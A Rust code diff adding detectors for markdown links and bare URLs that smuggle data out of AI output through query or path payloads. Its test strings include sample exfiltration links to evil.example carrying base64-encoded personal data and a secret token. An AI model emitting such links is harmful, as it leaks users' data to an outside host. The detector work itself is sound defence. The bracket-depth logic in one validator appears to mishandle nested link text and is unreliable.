@@ -94,6 +94,51 @@ pub static DETECTORS: &[Detector] = &[
             r#"<img data-src="https://e.example/p?d=1" src="a.png">"#,
         ],
     ),
+    Detector::base(
+        "markdown_link_exfil",
+        DataClass::UnsafeOutput,
+        "Markdown link carrying a payload",
+        MARKDOWN_LINK,
+        1.0,
+        Severity::High,
+    )
+    .gate(Gate::Inner {
+        literal: "](",
+        within: 165,
+    })
+    .docs("A markdown link (`[text](url)`) to an absolute URL whose query, fragment or path carries a payload: a value of 24 or more dense characters (base64, percent-encoded text) or a long dense path segment. One click sends the data (OWASP LLM05). The match is the whole link, text and closing `)` included, so a stream loses nothing of the URL; links with ordinary parameters are left alone. Allowlists are applied by the output inspection of whole responses.")
+    .validate(markdown_link_carries_payload)
+    .examples(
+        &[
+            "Verify here: [your account](https://evil.example/v?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk=)",
+            "[docs](<https://evil.example/a b?t=dGhlIHNlY3JldCB0b2tlbiBpcyBoZXJl>)",
+        ],
+        &[
+            "[docs](https://example.com/guide?page=2)",
+            "![x](https://evil.example/p?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk=)",
+            "[a](/relative?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk=)",
+        ],
+    ),
+    Detector::base(
+        "url_exfil",
+        DataClass::UnsafeOutput,
+        "URL carrying a payload",
+        BARE_URL,
+        1.0,
+        Severity::High,
+    )
+    .docs("An absolute `http(s)` URL in text (chat clients turn it into a link) whose query, fragment or path carries a payload, as for `markdown_link_exfil`. The match is the URL up to white space, a quote or a bracket; an image or link around it is matched whole by its own detector.")
+    .validate(url_carries_payload)
+    .examples(
+        &[
+            "Open https://evil.example/collect?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk= to continue.",
+            "HTTPS://evil.example/c/U2VjcmV0IGRhdGEgaW4gYSBsb25nIHBhdGggc2VnbWVudA",
+        ],
+        &[
+            "See https://docs.example.com/guide?page=2&lang=en for details.",
+            "https://example.com/a/b/c",
+        ],
+    ),
 ];
 
 /// `![alt](url "title")`, or, when the URL cannot be followed to its `)`, the image up to the
@@ -112,6 +157,18 @@ const MARKDOWN_DEFINITION: &str = concat!(
     r#"(?:<[^<>\n]{1,400}>|[^\s<]\S{0,499})"#,
     r#"(?:(?:[ \t]{1,8}|[ \t]{0,8}\r?\n[ \t]{0,8})(?:"[^"\n]{0,60}"|'[^'\n]{0,60}'|\([^()\n]{0,60}\)))?[ \t]{0,8})"#,
 );
+
+/// `[text](url "title")`; the URL alternatives are those of [`MARKDOWN_IMAGE`]. An image
+/// starts one byte earlier, at its `!`, so it is matched whole by its own detector.
+const MARKDOWN_LINK: &str = concat!(
+    r"\[[^\[\]]{0,100}(?:\[[^\[\]]{0,30}\][^\[\]]{0,30})?\]\(\s{0,8}",
+    r#"(?:(?:<[^<>\n]{1,400}>|[^\s()<\\][^\s()\\]{0,399}(?:\([^\s()\\]{0,60}\)[^\s()\\]{0,100}){0,2})"#,
+    r#"(?:\s{1,4}(?:"[^"]{0,60}"|'[^']{0,60}'|\([^()]{0,60}\)))?\s{0,8}\)"#,
+    r#"|<?(?i:https?:)?//[^\s"]{1,600})"#,
+);
+
+/// An absolute http(s) URL up to white space, a quote, a bracket or a backtick.
+const BARE_URL: &str = r#"(?i:https?)://[^\s"'<>()\[\]\x60\\]{1,600}"#;
 
 /// `<img …>`: quoted values may hold `>`.
 const HTML_IMAGE: &str =
@@ -139,4 +196,30 @@ fn definition_carries_data(m: &[u8]) -> bool {
 
 fn html_image_carries_data(m: &[u8]) -> bool {
     markup::image_sources(m).any(markup::fetches_with_data)
+}
+
+fn markdown_link_carries_payload(m: &[u8]) -> bool {
+    // the `]` that closes the link text (it may hold one bracketed pair of its own)
+    let mut depth = 0usize;
+    let Some(close) = m.iter().skip(1).position(|&c| {
+        match c {
+            b'[' => depth += 1,
+            b']' => depth = depth.saturating_sub(1),
+            _ => return false,
+        }
+        c == b']' && depth == 0
+    }) else {
+        return false;
+    };
+    markup::inline_destination(m, close + 3).is_some_and(|d| url_carries_payload(&m[d.url]))
+}
+
+fn url_carries_payload(url: &[u8]) -> bool {
+    let Ok(url) = std::str::from_utf8(url) else {
+        return false;
+    };
+    let url = url.trim();
+    let lower = url.get(..8).unwrap_or(url).to_ascii_lowercase();
+    (lower.starts_with("https://") || lower.starts_with("http://") || url.starts_with("//"))
+        && markup::carries_payload(url)
 }
